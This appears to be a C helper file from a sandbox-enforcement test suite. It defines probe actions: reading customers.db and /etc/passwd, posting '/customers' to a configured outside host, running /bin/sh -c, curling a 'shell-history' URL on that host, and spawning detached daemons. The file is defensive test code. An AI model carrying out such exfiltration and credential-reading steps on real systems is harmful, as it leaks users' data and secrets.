/* SPDX-License-Identifier: BSD-2-Clause */

#include "acts.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>

#include "base/cleanup.h"

#define ANSWER_TIMEOUT_S 5

static int read_whole(const char *path)
{
	_cleanup_fd_ int fd = open(path, O_RDONLY | O_CLOEXEC);
	char bytes[4096];
	ssize_t size;

	if (fd < 0)
		return -errno;
	do
		size = read(fd, bytes, sizeof(bytes));
	while (size > 0);
	return size < 0 ? -errno : 0;
}

int acts_read_customers(const struct acts *acts)
{
	_cleanup_free_ char *path = NULL;

	if (asprintf(&path, "%s/customers.db", acts->data_dir) < 0)
		return -ENOMEM;
	return read_whole(path);
}

int acts_read_passwords(void)
{
	return read_whole("/etc/passwd");
}

static int make_address(const char *text, uint16_t port, struct sockaddr_in *ret_address)
{
	*ret_address = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(port) };
	return inet_pton(AF_INET, text, &ret_address->sin_addr) == 1 ? 0 : -EINVAL;
}

static bool outside_is_local;

void acts_look_around(void)
{
	_cleanup_fd_ int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in address;

	if (sock < 0 || make_address(ACTS_OUTSIDE, 0, &address) < 0)
		return;
	outside_is_local = bind(sock, (struct sockaddr *)&address, sizeof(address)) == 0;
}

static int talk(const char *host, uint16_t port, const char *words)
{
	_cleanup_fd_ int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	const struct timeval timeout = { .tv_sec = ANSWER_TIMEOUT_S };
	struct sockaddr_in to;
	char answer[512];
	ssize_t size;

	if (sock < 0)
		return -errno;
	if (make_address(host, port, &to) < 0)
		return -EINVAL;
	if (setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout)) < 0 ||
	    setsockopt(sock, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof(timeout)) < 0 ||
	    connect(sock, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    send(sock, words, strlen(words), MSG_NOSIGNAL) < 0)
		return -errno;
	do
		size = recv(sock, answer, sizeof(answer), 0);
	while (size > 0);
	return size < 0 ? -errno : 0;
}

int acts_ask_service(const struct acts *acts, const char *endpoint)
{
	_cleanup_free_ char *words = NULL;

	if (asprintf(&words, "GET %s HTTP/1.0\r\n\r\n", endpoint) < 0)
		return -ENOMEM;
	return talk("127.0.0.1", acts->service_port, words);
}

int acts_send_outside(void)
{
	return outside_is_local
		       ? talk(ACTS_OUTSIDE, ACTS_OUTSIDE_PORT, "POST /customers HTTP/1.0\r\n\r\n")
		       : -EADDRNOTAVAIL;
}

/* Its output must not be taken for protocol. */
static int run(char *const argv[])
{
	pid_t pid = fork();
	int status = 0;

	if (pid < 0)
		return -errno;
	if (pid == 0) {
		int null = open("/dev/null", O_RDWR | O_CLOEXEC);

		if (null >= 0 && dup2(null, 0) == 0 && dup2(null, 1) == 1)
			execvp(argv[0], argv);
		_exit(127);
	}
	while (waitpid(pid, &status, 0) < 0) {
		if (errno != EINTR)
			return -errno;
	}
	return WIFEXITED(status) && WEXITSTATUS(status) != 127 ? 0 : -ECHILD;
}

int acts_run_shell(const char *command)
{
	char shell[] = "/bin/sh", option[] = "-c";
	_cleanup_free_ char *words = strdup(command);
	char *const argv[] = { shell, option, words, NULL };

	return words ? run(argv) : -ENOMEM;
}

int acts_spawn_curl(void)
{
	char name[] = "curl", silent[] = "-s", bound[] = "--max-time", seconds[] = "5";
	char url[] = "http://" ACTS_OUTSIDE ":443/shell-history";
	char *const argv[] = { name, silent, bound, seconds, url, NULL };

	return outside_is_local ? run(argv) : -EADDRNOTAVAIL;
}

static void sleep_ms(unsigned ms)
{
	struct timespec left = { .tv_sec = ms / 1000, .tv_nsec = (long)(ms % 1000) * 1000000 };

	while (nanosleep(&left, &left) < 0 && errno == EINTR)
		;
}

struct later {
	unsigned ms;
	char *path;
};

static void write_later(const struct later *later, const char *who)
{
	_cleanup_free_ char *path = NULL;
	_cleanup_fd_ int fd = -1;

	sleep_ms(later->ms);
	if (asprintf(&path, "%s.%s", later->path, who) < 0)
		return;
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd >= 0 && write(fd, "late\n", 5) != 5)
		unlink(path);
}

static void *thread_main(void *data)
{
	struct later *later = data;

	write_later(later, "thread");
	free(later->path);
	free(later);
	return NULL;
}

static int start_daemon(const struct later *later)
{
	pid_t pid = fork();

	if (pid < 0)
		return -errno;
	if (pid == 0) {
		if (setsid() < 0 || fork() != 0)
			_exit(0);
		for (int fd = 0; fd <= 2; fd++) /* it must not keep the client's pipes open */
			close(fd);
		write_later(later, "child");
		_exit(0);
	}
	return waitpid(pid, NULL, 0) < 0 ? -errno : 0;
}

static int start_thread(const struct later *later)
{
	struct later *own = calloc(1, sizeof(*own));
	pthread_t thread;
	int r;

	if (!own)
		return -ENOMEM;
	*own = (struct later){ .ms = later->ms, .path = strdup(later->path) };
	r = own->path ? pthread_create(&thread, NULL, thread_main, own) : ENOMEM;
	if (r) {
		free(own->path);
		free(own);
		return -r;
	}
	pthread_detach(thread);
	return 0;
}

int acts_work_later(unsigned ms, const char *path)
{
	const struct later later = { .ms = ms, .path = (char *)path };
	int r = start_daemon(&later);

	return r < 0 ? r : start_thread(&later);
}
